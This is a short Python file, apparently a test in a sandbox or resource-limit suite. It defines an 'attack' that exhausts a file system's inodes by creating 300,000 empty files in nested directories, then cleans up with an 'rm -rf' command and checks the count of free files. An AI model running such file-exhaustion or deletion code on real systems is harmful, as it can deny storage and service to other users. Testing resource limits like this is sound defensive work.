"""Makes empty files without end: they need no space, but a file system has only so many."""

from attack import Attack, python

MAKE = """
import os
for number in range(300_000):
    if number % 10_000 == 0:
        os.mkdir(f"e{number // 10_000}")
        os.chdir(f"e{number // 10_000}")
    os.close(os.open(str(number), os.O_CREAT))
"""
ATTACK = Attack((python(MAKE), "rm -rf e0; echo TRIED"), room_files=40_000, shows="files free")
